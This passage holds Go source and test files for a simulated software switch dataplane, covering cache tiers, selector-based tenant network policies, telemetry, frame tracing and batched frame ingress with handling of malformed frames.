func TestAttachRevalidator(t *testing.T) {
	c := cluster(t) // server-1, server-2
	rev := revalidator.New(revalidator.Config{})
	c.AttachRevalidator(rev)
	if rev.Targets() != 2 {
		t.Fatalf("attached %d targets, want the 2 existing nodes", rev.Targets())
	}
	if _, err := c.AddNode("server-3"); err != nil {
		t.Fatal(err)
	}
	if rev.Targets() != 3 {
		t.Fatalf("attached %d targets after AddNode, want 3", rev.Targets())
	}
	if c.Revalidator() != rev {
		t.Fatal("Revalidator accessor lost the actor")
	}
	// A round across the cluster runs without traffic (empty dump).
	rev.Tick(0)
	if got := rev.Stats().Rounds; got != 1 {
		t.Fatalf("rounds = %d", got)
	}
}
