package cms

import (
	"fmt"
	"sort"
	"strings"
)

// Labels are the key/value tags attached to pods, as in Kubernetes.
type Labels map[string]string

// Selector matches pods by label equality, the matchLabels core of
// Kubernetes selectors: every listed key must be present with the listed
// value. An empty selector matches every pod (of the tenant).
type Selector map[string]string

// Matches reports whether the selector selects a pod with the given
// labels.
func (s Selector) Matches(l Labels) bool {
	for k, v := range s {
		if l[k] != v {
			return false
		}
	}
	return true
}

// String renders the selector canonically (sorted keys).
func (s Selector) String() string {
	if len(s) == 0 {
		return "{}"
	}
	keys := make([]string, 0, len(s))
	for k := range s {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	parts := make([]string, 0, len(keys))
	for _, k := range keys {
		parts = append(parts, fmt.Sprintf("%s=%s", k, s[k]))
	}
	return "{" + strings.Join(parts, ",") + "}"
}

// SetLabels replaces a pod's labels and re-applies any selector-based
// policies of its tenant, exactly as a Kubernetes label update retriggers
// policy evaluation.
func (c *Cluster) SetLabels(tenant, podName string, l Labels) error {
	p := c.pods[podName]
	if p == nil {
		return fmt.Errorf("cms: no pod %q", podName)
	}
	if p.Tenant != tenant {
		return fmt.Errorf("cms: tenant %q does not own pod %q", tenant, podName)
	}
	p.Labels = make(Labels, len(l))
	for k, v := range l {
		p.Labels[k] = v
	}
	return c.reconcile(tenant)
}

// ApplySelectorPolicy installs pol on every pod of the tenant the selector
// matches, and records it so future label changes and pod deployments
// reconcile automatically — the NetworkPolicy contract.
func (c *Cluster) ApplySelectorPolicy(tenant string, sel Selector, pol *Policy) error {
	if pol.Name == "" {
		return fmt.Errorf("cms: selector policy needs a name")
	}
	for _, sp := range c.selectorPolicies[tenant] {
		if sp.policy.Name == pol.Name {
			sp.selector = sel
			sp.policy = pol
			return c.reconcile(tenant)
		}
	}
	c.selectorPolicies[tenant] = append(c.selectorPolicies[tenant], &selectorPolicy{
		selector: sel, policy: pol,
	})
	return c.reconcile(tenant)
}

// DeleteSelectorPolicy removes a named selector policy and reconciles.
func (c *Cluster) DeleteSelectorPolicy(tenant, name string) error {
	sps := c.selectorPolicies[tenant]
	for i, sp := range sps {
		if sp.policy.Name == name {
			c.selectorPolicies[tenant] = append(sps[:i], sps[i+1:]...)
			return c.reconcile(tenant)
		}
	}
	return fmt.Errorf("cms: tenant %q has no policy %q", tenant, name)
}

type selectorPolicy struct {
	selector Selector
	policy   *Policy
}

// reconcile re-evaluates every selector policy of a tenant against its
// pods: matched pods get the policy (last-applied wins on multiple
// matches, deterministic by application order), unmatched previously
// policed pods revert to open.
func (c *Cluster) reconcile(tenant string) error {
	for _, p := range c.pods {
		if p.Tenant != tenant {
			continue
		}
		var want *Policy
		for _, sp := range c.selectorPolicies[tenant] {
			if sp.selector.Matches(p.Labels) {
				want = sp.policy
			}
		}
		switch {
		case want == nil && p.policy != nil && p.fromSelector:
			if err := c.RemovePolicy(tenant, p.Name); err != nil {
				return err
			}
		case want != nil && p.policy != want:
			if err := c.ApplyPolicy(tenant, p.Name, want); err != nil {
				return err
			}
			p.fromSelector = true
		}
	}
	return nil
}
