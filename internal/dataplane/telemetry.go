package dataplane

import (
	"strconv"

	"policyinject/internal/cache"
	"policyinject/internal/telemetry"
)

// WithTelemetry registers the switch's live instruments into reg and
// turns on hot-path recording: per-burst latency/size/visit histograms
// around ProcessFrames, per-tier LookupBatch latency, and counter
// mirrors of the switch/upcall statistics, all labelled
// switch=<name> (plus tier=<name> for per-tier series).
//
// Every handle is resolved here, once; the record path is atomic adds
// on preallocated cells, so the //lint:hotpath zero-alloc contract of
// the frame path holds with telemetry enabled (see
// TestFramePathZeroAlloc's telemetry legs and
// BenchmarkTelemetryOverhead).
func WithTelemetry(reg *telemetry.Registry) Option {
	return func(c *config) { c.telemetry = reg }
}

// telemetryHooks bundles the instrument handles one switch records
// into. The counter mirrors are settled as per-burst deltas of the
// plain switch counters (one subtraction per burst), so the cold
// accounting paths stay untouched and the //lint:atomiccounters
// discipline on Counters is preserved.
type telemetryHooks struct {
	bursts      *telemetry.Counter
	frames      *telemetry.Counter
	parseErrs   *telemetry.Counter
	upcalls     *telemetry.Counter
	upcallDrops *telemetry.Counter
	allowed     *telemetry.Counter
	denied      *telemetry.Counter
	installErrs *telemetry.Counter
	tierHits    []*telemetry.Counter

	burstNs      *telemetry.Histogram // wall ns per ProcessFrames burst
	burstFrames  *telemetry.Histogram // frames per burst
	burstUpcalls *telemetry.Histogram // upcalls admitted per burst
	burstScan    *telemetry.Histogram // megaflow scan cost per burst (MasksScanned delta)
	burstVisits  *telemetry.Histogram // physical subtable probes per burst (staged)
	tierNs       []*telemetry.Histogram

	mfEntries   *telemetry.Gauge
	mfMasks     *telemetry.Gauge
	mfFlowLimit *telemetry.Gauge
	ctEntries   *telemetry.Gauge
	tierEntries []*telemetry.Gauge

	// Sharded hierarchies: per-shard occupancy/mask gauges (labelled
	// shard=<i>), refreshed by PublishTelemetry alongside the totals.
	shardEntries []*telemetry.Gauge
	shardMasks   []*telemetry.Gauge

	prevTierHits []uint64 // per-burst tier-hit scratch, len(tiers)
	mf           *cache.Megaflow
	smf          *cache.ShardedMegaflow
}

func newTelemetryHooks(reg *telemetry.Registry, s *Switch) *telemetryHooks {
	sw := telemetry.L("switch", s.name)
	h := &telemetryHooks{
		bursts:       reg.Counter("dp_bursts_total", sw),
		frames:       reg.Counter("dp_frames_total", sw),
		parseErrs:    reg.Counter("dp_parse_errors_total", sw),
		upcalls:      reg.Counter("dp_upcalls_total", sw),
		upcallDrops:  reg.Counter("dp_upcall_drops_total", sw),
		allowed:      reg.Counter("dp_allowed_total", sw),
		denied:       reg.Counter("dp_denied_total", sw),
		installErrs:  reg.Counter("dp_install_errors_total", sw),
		burstNs:      reg.Histogram("dp_burst_ns", sw),
		burstFrames:  reg.Histogram("dp_burst_frames", sw),
		burstUpcalls: reg.Histogram("dp_burst_upcalls", sw),
		burstScan:    reg.Histogram("dp_burst_scan_cost", sw),
		burstVisits:  reg.Histogram("dp_burst_subtable_visits", sw),
		mfEntries:    reg.Gauge("dp_mf_entries", sw),
		mfMasks:      reg.Gauge("dp_mf_masks", sw),
		mfFlowLimit:  reg.Gauge("dp_mf_flow_limit", sw),
		ctEntries:    reg.Gauge("dp_ct_entries", sw),
		prevTierHits: make([]uint64, len(s.tiers)),
		mf:           s.Megaflow(),
		smf:          s.ShardedMegaflow(),
	}
	for _, t := range s.tiers {
		tl := telemetry.L("tier", t.Name())
		h.tierHits = append(h.tierHits, reg.Counter("dp_tier_hits_total", sw, tl))
		h.tierNs = append(h.tierNs, reg.Histogram("dp_tier_lookup_ns", sw, tl))
		h.tierEntries = append(h.tierEntries, reg.Gauge("dp_tier_entries", sw, tl))
	}
	if h.smf != nil {
		for i := 0; i < h.smf.NumShards(); i++ {
			sl := telemetry.L("shard", strconv.Itoa(i))
			h.shardEntries = append(h.shardEntries, reg.Gauge("dp_mf_shard_entries", sw, sl))
			h.shardMasks = append(h.shardMasks, reg.Gauge("dp_mf_shard_masks", sw, sl))
		}
	}
	return h
}

// record settles one ProcessFrames burst: wall latency, burst size,
// and the deltas the burst accrued on the plain switch counters,
// tier-hit slots and megaflow scan statistics.
func (h *telemetryHooks) record(cur, prev *Counters, tierHits []uint64, scan0, visits0, nframes, dt uint64) {
	h.bursts.Inc()
	h.frames.Add(nframes)
	h.burstNs.Record(dt)
	h.burstFrames.Record(nframes)
	h.parseErrs.Add(cur.ParseError - prev.ParseError)
	up := cur.Upcalls - prev.Upcalls
	h.upcalls.Add(up)
	h.burstUpcalls.Record(up)
	h.upcallDrops.Add(cur.UpcallDrops - prev.UpcallDrops)
	h.allowed.Add(cur.Allowed - prev.Allowed)
	h.denied.Add(cur.Denied - prev.Denied)
	h.installErrs.Add(cur.InstallErr - prev.InstallErr)
	for i := range tierHits {
		h.tierHits[i].Add(tierHits[i] - h.prevTierHits[i])
	}
	if h.mf != nil {
		h.burstScan.Record(h.mf.MasksScanned - scan0)
		h.burstVisits.Record(h.mf.SubtableVisits - visits0)
	}
}

// PublishTelemetry refreshes the slow-moving datapath gauges (cache
// populations, mask count, flow limit, conntrack occupancy) from
// current switch state. The scenario timeline calls it once per tick;
// dpctl calls it before a one-shot dump. No-op without WithTelemetry.
func (s *Switch) PublishTelemetry() {
	tel := s.tel
	if tel == nil {
		return
	}
	if tel.mf != nil {
		tel.mfEntries.SetInt(tel.mf.Len())
		tel.mfMasks.SetInt(tel.mf.NumMasks())
		tel.mfFlowLimit.SetInt(tel.mf.FlowLimit())
	}
	if tel.smf != nil {
		tel.mfEntries.SetInt(tel.smf.Len())
		tel.mfMasks.SetInt(tel.smf.NumMasks())
		tel.mfFlowLimit.SetInt(tel.smf.FlowLimit())
		for i := range tel.shardEntries {
			snap := tel.smf.ShardSnapshot(i)
			tel.shardEntries[i].SetInt(snap.Entries)
			tel.shardMasks[i].SetInt(snap.Masks)
		}
	}
	if s.ct != nil {
		tel.ctEntries.SetInt(s.ct.Len())
	}
	for i, t := range s.tiers {
		tel.tierEntries[i].SetInt(t.Stats().Entries)
	}
}
