package dataplane

import (
	"fmt"
	"strings"

	"policyinject/internal/cache"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/pkt"
)

// TraceStep is one tier's decision in a frame trace.
type TraceStep struct {
	Index int    // tier position in walk order
	Tier  string // tier name ("emc", "smc", "megaflow", ...)
	Hit   bool
	Cost  int           // scan cost this tier billed (Decision.MasksScanned share)
	Match string        // matched cache entry's megaflow match (hit only)
	Vd    cache.Verdict // matched entry's verdict (hit only)

	// Megaflow sweep detail, deltas of the cache's real pruning
	// counters around this very lookup — not a re-simulation. Sweep is
	// true for megaflow-backed tiers.
	Sweep    bool
	Resident int    // subtables resident at lookup time
	Scanned  uint64 // MasksScanned delta (billed scan positions)
	Visits   uint64 // SubtableVisits delta (physical stage/full probes)
	Prunes   uint64 // SubtablePrunes delta (prefilter rejections)
	Bails    uint64 // StageBails delta (stage-hash misses before full probe)
}

// TraceUpcall is the slow-path tail of a trace that missed every tier.
type TraceUpcall struct {
	Refused    bool   // dropped by the upcall admission guard
	RuleFound  bool   // a policy rule matched
	Rule       string // winning rule rendering (priority, match, actions)
	Comment    string // rule provenance comment, if any
	Megaflow   string // synthesised megaflow match
	Installed  bool   // megaflow installed into the authoritative tier
	InstallErr string // install failure, if any
}

// TraceResult explains how one frame would fare through the pipeline —
// the ofproto/trace analog. It is produced by walking the frame
// through the *live* tiers (real Lookup calls, real promotions, real
// counter updates), so the explanation is the code path itself, not a
// model of it.
type TraceResult struct {
	Now      uint64
	InPort   uint32
	FrameLen int
	ParseErr error
	Key      flow.Key
	Steps    []TraceStep
	Upcall   *TraceUpcall // nil when a tier answered
	Verdict  cache.Verdict
	Path     Path
	Scanned  int // total masks scanned (Decision.MasksScanned)
}

// TraceFrame runs one frame through extract and the real tier walk at
// logical time now, recording every tier decision, the megaflow
// sweep's staged-pruning counter deltas, the upcall admission verdict
// and the slow-path outcome. State changes exactly as a Process call
// would change it (hits promote, upcalls install, counters move):
// tracing is processing with the explanation kept.
//
// Packets whose verdict recirculates through conntrack are reported
// with the first-pass verdict ("ct(recirc)"); the trace does not
// follow the second pass.
func (s *Switch) TraceFrame(now uint64, frame []byte, inPort uint32) *TraceResult {
	res := &TraceResult{Now: now, InPort: inPort, FrameLen: len(frame)}
	s.counters.Packets++
	k, err := pkt.Extract(frame, inPort)
	if err != nil {
		s.counters.ParseError++
		res.ParseErr = err
		res.Verdict = cache.Verdict{Verdict: flowtable.Deny}
		res.Path = PathSlow
		return res
	}
	res.Key = k

	scanned := 0
	for i, t := range s.tiers {
		step := TraceStep{Index: i, Tier: t.Name()}
		var mf *cache.Megaflow
		if mt, ok := t.(megaflowBacked); ok {
			mf = mt.Megaflow()
		}
		var scan0, v0, p0, b0 uint64
		if mf != nil {
			step.Sweep = true
			step.Resident = mf.NumMasks()
			scan0, v0, p0, b0 = mf.MasksScanned, mf.SubtableVisits, mf.SubtablePrunes, mf.StageBails
		}
		ent, cost, ok := t.Lookup(k, now)
		scanned += cost
		step.Cost = cost
		if mf != nil {
			step.Scanned = mf.MasksScanned - scan0
			step.Visits = mf.SubtableVisits - v0
			step.Prunes = mf.SubtablePrunes - p0
			step.Bails = mf.StageBails - b0
		}
		if ok {
			step.Hit = true
			step.Match = ent.Match.String()
			step.Vd = ent.Verdict
			res.Steps = append(res.Steps, step)
			s.tierHits[i]++
			for _, upper := range s.tiers[:i] {
				upper.Install(k, ent)
			}
			res.Verdict = ent.Verdict
			res.Path = t.Path()
			res.Scanned = scanned
			s.account(res.Verdict)
			return res
		}
		res.Steps = append(res.Steps, step)
	}

	up := &TraceUpcall{}
	res.Upcall = up
	res.Path = PathSlow
	res.Scanned = scanned
	if s.upGuard != nil && !s.upGuard.AdmitUpcall(now, uint32(k.Get(flow.FieldInPort))) {
		s.counters.UpcallDrops++
		up.Refused = true
		res.Verdict = cache.Verdict{Verdict: flowtable.Deny}
		s.account(res.Verdict)
		return res
	}
	s.counters.Upcalls++
	cres := s.cls.Lookup(k)
	v := cache.Verdict{Verdict: flowtable.Deny}
	if cres.Rule != nil {
		up.RuleFound = true
		up.Rule = cres.Rule.String()
		up.Comment = cres.Rule.Comment
		v = cres.Rule.Action
	}
	up.Megaflow = cres.Megaflow.String()
	if s.installer != nil {
		ent, ierr := s.installer.InsertMegaflow(cres.Megaflow, v, now)
		if ierr != nil {
			s.counters.InstallErr++
			up.InstallErr = ierr.Error()
		} else {
			up.Installed = true
			s.promoteHashed(k, 0, false, ent, s.promoteTo)
		}
	}
	res.Verdict = v
	s.account(v)
	return res
}

// String renders the trace as the dpctl-facing explanation. The text
// is deterministic for a deterministic switch state and is pinned by
// golden tests — change it deliberately.
func (r *TraceResult) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "trace: %d-byte frame on port %d at t=%d\n", r.FrameLen, r.InPort, r.Now)
	if r.ParseErr != nil {
		fmt.Fprintf(&b, "  extract: error: %v\n", r.ParseErr)
		fmt.Fprintf(&b, "verdict: deny (malformed frame dropped before classification)\n")
		return b.String()
	}
	fmt.Fprintf(&b, "  flow: %s\n", r.Key)
	for _, st := range r.Steps {
		outcome := "MISS"
		if st.Hit {
			outcome = "HIT"
		}
		fmt.Fprintf(&b, "  tier %d %s: %s (cost %d)\n", st.Index, st.Tier, outcome, st.Cost)
		if st.Sweep {
			fmt.Fprintf(&b, "    subtables: %d resident, %d scanned, %d probed, %d pruned, %d stage-hash bails\n",
				st.Resident, st.Scanned, st.Visits, st.Prunes, st.Bails)
		}
		if st.Hit {
			fmt.Fprintf(&b, "    matched %s -> %s\n", st.Match, st.Vd)
		}
	}
	if up := r.Upcall; up != nil {
		if up.Refused {
			fmt.Fprintf(&b, "  upcall: REFUSED by admission guard — dropped at the datapath, no classification\n")
		} else {
			fmt.Fprintf(&b, "  upcall: admitted to slow path\n")
			if up.RuleFound {
				fmt.Fprintf(&b, "    rule: %s", up.Rule)
				if up.Comment != "" {
					fmt.Fprintf(&b, "  # %s", up.Comment)
				}
				b.WriteByte('\n')
			} else {
				fmt.Fprintf(&b, "    rule: none matched -> default deny\n")
			}
			fmt.Fprintf(&b, "    megaflow: %s\n", up.Megaflow)
			switch {
			case up.Installed:
				fmt.Fprintf(&b, "    install: ok (promoted to upper tiers)\n")
			case up.InstallErr != "":
				fmt.Fprintf(&b, "    install: FAILED: %s\n", up.InstallErr)
			}
		}
	}
	fmt.Fprintf(&b, "verdict: %s via %s, masks scanned %d\n", r.Verdict, r.Path, r.Scanned)
	return b.String()
}
