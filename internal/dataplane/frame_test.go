package dataplane

import (
	"fmt"
	"net/netip"
	"testing"

	"policyinject/internal/cache"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/pkt"
)

// frameCorpus builds a well-formed traffic mix against the aclSwitch rule
// set: allowed 10/8 flows (with consecutive duplicate runs — the batch
// visibility rule holds exactly for those) and denied outsiders.
func frameCorpus() [][]byte {
	var frames [][]byte
	add := func(src, dst string, sport, dport uint16, copies int) {
		f := pkt.MustBuild(pkt.Spec{
			Src: netip.MustParseAddr(src), Dst: netip.MustParseAddr(dst),
			Proto: pkt.ProtoTCP, SrcPort: sport, DstPort: dport, FrameLen: 128,
		})
		for i := 0; i < copies; i++ {
			frames = append(frames, f)
		}
	}
	for i := 0; i < 12; i++ {
		add("10.0.7.1", "10.0.0.9", uint16(30000+i), 443, 1+i%4)
	}
	add("192.168.3.3", "10.0.0.9", 5555, 22, 3) // denied
	add("10.1.1.1", "10.0.0.9", 40000, 80, 5)
	return frames
}

// TestProcessFramesMatchesScalarProcess is the frame-first conformance
// test: on well-formed traffic, ProcessFrames must produce byte-identical
// decisions, switch counters, tier stats and port counters to a looped
// scalar Process, across the stock hierarchies (the SMC one also
// exercises the hashed install path against scalar re-hash installs).
func TestProcessFramesMatchesScalarProcess(t *testing.T) {
	hierarchies := []struct {
		name string
		opts []Option
	}{
		{"emc+tss", nil},
		{"tss-only", []Option{WithoutEMC()}},
		// InsertProb 1 keeps EMC insertion deterministic: with the forced
		// 1/100 policy the PRNG draw *order* differs between a scalar loop
		// and the batch walk, which is outside the equivalence contract.
		{"emc+smc+tss", []Option{
			WithEMC(cache.EMCConfig{InsertProb: 1}),
			WithSMC(cache.SMCConfig{Entries: 1 << 12}),
		}},
		{"smc+tss", []Option{WithoutEMC(), WithSMC(cache.SMCConfig{Entries: 1 << 12})}},
	}
	frames := frameCorpus()
	for _, h := range hierarchies {
		t.Run(h.name, func(t *testing.T) {
			build := func() *Switch {
				sw := aclSwitch(h.opts...)
				sw.AddPort(1, "vport1")
				return sw
			}
			seqSW, batchSW := build(), build()
			var fb FrameBatch
			var batchOut []Decision
			for round := 0; round < 3; round++ { // cold, warming, warm
				now := uint64(round + 1)
				seqOut := make([]Decision, 0, len(frames))
				for _, f := range frames {
					d, err := seqSW.Process(now, 1, f)
					if err != nil {
						t.Fatalf("scalar Process: %v", err)
					}
					seqOut = append(seqOut, d)
				}
				fb.Reset()
				for _, f := range frames {
					fb.Append(f, 1)
				}
				batchOut = batchSW.ProcessFrames(now, &fb, batchOut)
				batchEq(t, fmt.Sprintf("round %d", round), seqOut, batchOut, seqSW, batchSW)
				for i := range frames {
					if fb.Err(i) != nil {
						t.Fatalf("round %d frame %d: unexpected parse error %v", round, i, fb.Err(i))
					}
				}
				if *seqSW.Port(1) != *batchSW.Port(1) {
					t.Fatalf("round %d: port counters diverge:\n scalar %+v\n frames %+v",
						round, *seqSW.Port(1), *batchSW.Port(1))
				}
			}
			// Tier hit counts are compared by batchEq. Raw per-tier miss
			// counters are legitimately different on cold bursts: the
			// inverted megaflow sweep probes every representative before
			// the upcall tail installs, where the scalar loop benefits
			// from each upcall immediately.
		})
	}
}

// TestProcessFramesTruncatedFrameDoesNotAbortBurst is the error-policy
// regression test: one truncated frame in a burst gets its own error slot
// and RxErrors accounting while every other frame classifies exactly as it
// would in an all-valid burst.
func TestProcessFramesTruncatedFrameDoesNotAbortBurst(t *testing.T) {
	valid := frameCorpus()
	truncated := valid[0][:9]

	clean, dirty := aclSwitch(), aclSwitch()
	clean.AddPort(1, "vport1")
	dirty.AddPort(1, "vport1")

	var fb FrameBatch
	for _, f := range valid {
		fb.Append(f, 1)
	}
	cleanOut := clean.ProcessFrames(1, &fb, nil)
	cleanDecisions := append([]Decision(nil), cleanOut...)

	const badAt = 3
	fb.Reset()
	for i, f := range valid {
		if i == badAt {
			fb.Append(truncated, 1)
		}
		fb.Append(f, 1)
	}
	dirtyOut := dirty.ProcessFrames(1, &fb, nil)

	if fb.Err(badAt) == nil {
		t.Fatal("truncated frame produced no error slot")
	}
	if d := dirtyOut[badAt]; d.Verdict.Verdict != flowtable.Deny {
		t.Fatalf("truncated frame decision = %+v, want deny", d)
	}
	for i, want := range cleanDecisions {
		j := i
		if i >= badAt {
			j = i + 1
		}
		if fb.Err(j) != nil {
			t.Fatalf("valid frame %d reported error %v", j, fb.Err(j))
		}
		if dirtyOut[j] != want {
			t.Fatalf("valid frame %d: decision %+v != clean-burst %+v", j, dirtyOut[j], want)
		}
		// Key(i) must stay frame-aligned even though the classifier ran
		// over a compacted sub-burst.
		if wantK, err := pkt.Extract(valid[i], 1); err != nil || fb.Key(j) != wantK {
			t.Fatalf("valid frame %d: Key misaligned after compaction", j)
		}
	}

	cc, dc := clean.Counters(), dirty.Counters()
	if dc.ParseError != 1 || cc.ParseError != 0 {
		t.Fatalf("ParseError: clean %d, dirty %d", cc.ParseError, dc.ParseError)
	}
	if dc.Packets != cc.Packets+1 {
		t.Fatalf("Packets: clean %d, dirty %d", cc.Packets, dc.Packets)
	}
	if dc.Allowed != cc.Allowed || dc.Denied != cc.Denied || dc.Upcalls != cc.Upcalls {
		t.Fatalf("verdict counters diverge:\n clean %+v\n dirty %+v", cc, dc)
	}
	p := dirty.Port(1)
	if p.RxErrors != 1 {
		t.Fatalf("RxErrors = %d, want 1", p.RxErrors)
	}
	if want := clean.Port(1).RxDropped + 1; p.RxDropped != want {
		t.Fatalf("RxDropped = %d, want %d", p.RxDropped, want)
	}
}

// TestScalarProcessIsOneFrameBatch pins the demotion: Process must report
// the parse error and the same accounting the frame path gives a
// one-frame burst.
func TestScalarProcessIsOneFrameBatch(t *testing.T) {
	sw := aclSwitch()
	sw.AddPort(1, "vport1")
	if _, err := sw.Process(1, 1, []byte{1, 2, 3}); err == nil {
		t.Fatal("truncated frame accepted")
	}
	if sw.Port(1).RxErrors != 1 || sw.Port(1).RxDropped != 1 {
		t.Fatalf("port counters: %+v", *sw.Port(1))
	}
	good := pkt.MustBuild(pkt.Spec{
		Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.9"),
		Proto: pkt.ProtoTCP, SrcPort: 1, DstPort: 80,
	})
	d, err := sw.Process(2, 1, good)
	if err != nil || d.Verdict.Verdict != flowtable.Allow {
		t.Fatalf("d=%+v err=%v", d, err)
	}
	if sw.Port(1).TxPackets != 1 {
		t.Fatalf("port counters: %+v", *sw.Port(1))
	}
}

// TestPMDPoolProcessFrames checks the pool's frame ingress: decisions
// equal the pool's key-level ProcessBatch over the extracted keys, and a
// malformed frame is billed to PMD 0 without derailing the burst.
func TestPMDPoolProcessFrames(t *testing.T) {
	build := func() *PMDPool {
		pool := NewPMDPool(4, "pool")
		var m flow.Match
		m.Key.Set(flow.FieldIPSrc, 0x0a000000)
		m.Mask.SetPrefix(flow.FieldIPSrc, 8)
		pool.InstallRule(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
		pool.InstallRule(flowtable.Rule{Priority: 0})
		return pool
	}
	frames := frameCorpus()

	keyPool, framePool := build(), build()
	var fb FrameBatch
	for _, f := range frames {
		fb.Append(f, 1)
	}
	keys, _, _ := fb.Extract()
	keysCopy := append([]flow.Key(nil), keys...)
	for round := 0; round < 2; round++ {
		now := uint64(round + 1)
		keyOut := keyPool.ProcessBatch(now, keysCopy, nil)
		frameOut := framePool.ProcessFrames(now, &fb, nil)
		for i := range frames {
			if keyOut[i] != frameOut[i] {
				t.Fatalf("round %d frame %d: key-path %+v != frame-path %+v", round, i, keyOut[i], frameOut[i])
			}
		}
	}

	dirty := build()
	fb.Reset()
	fb.Append([]byte{0xff}, 1)
	for _, f := range frames {
		fb.Append(f, 1)
	}
	out := dirty.ProcessFrames(1, &fb, nil)
	if out[0].Verdict.Verdict != flowtable.Deny {
		t.Fatalf("malformed frame decision: %+v", out[0])
	}
	if got := dirty.PMD(0).Counters().ParseError; got != 1 {
		t.Fatalf("PMD 0 ParseError = %d, want 1", got)
	}
	total := uint64(0)
	for i := 0; i < dirty.N(); i++ {
		total += dirty.PMD(i).Counters().Packets
	}
	if want := uint64(len(frames) + 1); total != want {
		t.Fatalf("pool packets = %d, want %d", total, want)
	}
}
