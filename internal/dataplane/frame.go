package dataplane

import (
	"policyinject/internal/cache"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/pkt"
	"policyinject/internal/telemetry"
)

// FrameBatch is the frame-first ingress unit: a burst of raw wire frames
// with their ingress ports, plus the reusable key/hash/error scratch the
// extract stage fills. It is the type a NIC rx queue (or a pcap replay, or
// a traffic generator's FrameSource) hands to ProcessFrames, and it is
// deliberately reusable — Reset and refill it every burst and the steady
// state allocates nothing.
//
// Frames and InPorts are plain fields so callers can fill them directly;
// the scratch below them is owned by Extract and the ProcessFrames
// implementations.
type FrameBatch struct {
	Frames  [][]byte
	InPorts []uint32

	keys   []flow.Key
	errs   []error
	hashes []uint64

	// Compaction scratch for bursts carrying malformed frames: the valid
	// frames' keys and input indices, and the decisions of the compacted
	// sub-burst. Kept separate from keys so Key(i) stays frame-aligned.
	vkeys    []flow.Key
	validIdx []int
	vout     []Decision
}

// Reset empties the batch for refilling, keeping all capacity.
func (fb *FrameBatch) Reset() {
	fb.Frames = fb.Frames[:0]
	fb.InPorts = fb.InPorts[:0]
}

// Append adds one frame received on inPort to the batch.
func (fb *FrameBatch) Append(frame []byte, inPort uint32) {
	fb.Frames = append(fb.Frames, frame)
	fb.InPorts = append(fb.InPorts, inPort)
}

// Len returns the number of frames in the batch.
func (fb *FrameBatch) Len() int { return len(fb.Frames) }

// grow sizes the extract scratch for n frames.
func (fb *FrameBatch) grow(n int) {
	if cap(fb.keys) < n {
		fb.keys = make([]flow.Key, n)
		fb.errs = make([]error, n)
	}
	fb.keys = fb.keys[:n]
	fb.errs = fb.errs[:n]
}

// Extract parses every frame into the batch's key scratch (one
// pkt.ExtractBatch pass) and returns the keys, the per-frame error slots
// and the number of malformed frames. The returned slices are the batch's
// scratch: valid until the next Extract call.
func (fb *FrameBatch) Extract() (keys []flow.Key, errs []error, bad int) {
	fb.grow(fb.Len())
	bad = pkt.ExtractBatch(fb.Frames, fb.InPorts, fb.keys, fb.errs)
	return fb.keys, fb.errs, bad
}

// compactValid gathers the keys of cleanly parsed frames into the batch's
// compaction scratch, recording each one's input index in validIdx.
func (fb *FrameBatch) compactValid(keys []flow.Key, errs []error) []flow.Key {
	fb.vkeys = fb.vkeys[:0]
	fb.validIdx = fb.validIdx[:0]
	for i := range keys {
		if errs[i] == nil {
			fb.vkeys = append(fb.vkeys, keys[i])
			fb.validIdx = append(fb.validIdx, i)
		}
	}
	return fb.vkeys
}

// Err returns frame i's parse outcome from the last Extract (nil for a
// clean decode).
func (fb *FrameBatch) Err(i int) error { return fb.errs[i] }

// Key returns frame i's extracted key from the last Extract. Only
// meaningful when Err(i) is nil.
func (fb *FrameBatch) Key(i int) flow.Key { return fb.keys[i] }

// denyDecision is the decision a malformed frame receives: dropped without
// entering the classifier, as a real datapath discards what it cannot
// parse.
func denyDecision() Decision {
	return Decision{Verdict: cache.Verdict{Verdict: flowtable.Deny}}
}

// ProcessFrames runs a burst of raw frames through the whole pipeline —
// extract, per-burst hash pass, batched tier walk — writing one Decision
// per frame into out (grown if needed) and returning it. This is the
// first-class ingress of the switch: the wire burst, not the packet and
// not the pre-parsed key, is the unit of work, so the measured per-packet
// cost finally includes the parse stage the scalar entry point hid.
//
// Malformed frames do not abort the burst: each gets a Deny decision, a
// switch-level ParseError and per-port RxErrors/RxDropped accounting (read
// the per-frame cause via fb.Err), and the remaining frames classify as
// one compacted sub-burst. On well-formed traffic the decisions and
// counters are exactly those of a scalar Process loop, with the batch
// visibility rule of ProcessBatch (duplicate keys in non-consecutive runs
// may answer from a lower tier; verdicts are identical either way).
//
//lint:hotpath
func (s *Switch) ProcessFrames(now uint64, fb *FrameBatch, out []Decision) []Decision {
	tel := s.tel
	if tel == nil {
		return s.processFrames(now, fb, out)
	}
	// Instrumented leg: stamp the burst's wall latency and settle the
	// counter deltas it accrued. Everything here is plain arithmetic
	// plus atomic adds on handles resolved at registration — the
	// zero-alloc contract of this root holds with telemetry on.
	t0 := telemetry.Clock()
	prev := s.counters
	var scan0, visits0 uint64
	if tel.mf != nil {
		scan0, visits0 = tel.mf.MasksScanned, tel.mf.SubtableVisits
	}
	copy(tel.prevTierHits, s.tierHits)
	out = s.processFrames(now, fb, out)
	tel.record(&s.counters, &prev, s.tierHits, scan0, visits0, uint64(fb.Len()), telemetry.Clock()-t0)
	return out
}

// processFrames is the uninstrumented frame pipeline ProcessFrames
// wraps.
func (s *Switch) processFrames(now uint64, fb *FrameBatch, out []Decision) []Decision {
	n := fb.Len()
	out = GrowDecisions(out, n)
	if n == 0 {
		return out
	}
	keys, errs, bad := fb.Extract()
	s.counters.Packets += uint64(n)
	for i, frame := range fb.Frames {
		if p := s.ports[fb.InPorts[i]]; p != nil {
			p.RxPackets++
			p.RxBytes += uint64(len(frame))
		}
		if errs[i] != nil {
			s.counters.ParseError++
			if p := s.ports[fb.InPorts[i]]; p != nil {
				p.RxErrors++
				p.RxDropped++
			}
			out[i] = denyDecision()
		}
	}

	if bad == 0 {
		s.processFrameKeys(now, keys, out)
		for i, d := range out {
			s.accountTx(fb.InPorts[i], len(fb.Frames[i]), d)
		}
		return out
	}

	// Compact the parseable frames into one contiguous sub-burst (into the
